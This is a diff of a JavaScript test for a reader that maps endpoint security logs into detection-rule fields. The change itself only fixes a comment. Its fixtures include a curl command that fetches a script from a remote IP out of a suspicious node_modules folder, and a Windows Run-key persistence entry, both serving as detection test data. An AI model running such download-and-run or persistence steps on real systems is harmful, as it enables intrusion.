@@ -117,7 +117,7 @@ describe('ecs reader', () => {
     const r = await read([auditbeat, registry, library, mac].map((d) => JSON.stringify(d)).join('\n'));
     expect(r.bad).toEqual([]);
     expect(r.events[0]).toMatchObject({ category: 'process_creation', product: 'linux', host: 'build-7', user: 'dev', fields: { Image: '/usr/bin/curl', CommandLine: 'curl -s http://198.51.100.9/x.sh', ParentProcessId: 4241, CurrentDirectory: '/home/dev/app/node_modules/evil' } });
-    // The hive as Sysmon and SigmaHQ's rules write it (`HKU\\`), as the Defender reader writes it.
+    // The hive as Sysmon and SigmaHQ's rules write it (`HKU\`), as the Defender reader writes it.
     expect(r.events[1]).toMatchObject({ category: 'registry_set', product: 'windows', fields: { TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', Details: 'C:\\Users\\alice\\AppData\\Local\\Temp\\u.exe' } });
     expect(r.events[2]).toMatchObject({ category: 'image_load', fields: { ImageLoaded: library.dll.path, Hashes: `SHA256=${'AB'.repeat(32)}` } });
     expect(r.events[3]).toMatchObject({ category: 'process_creation', product: 'macos' });
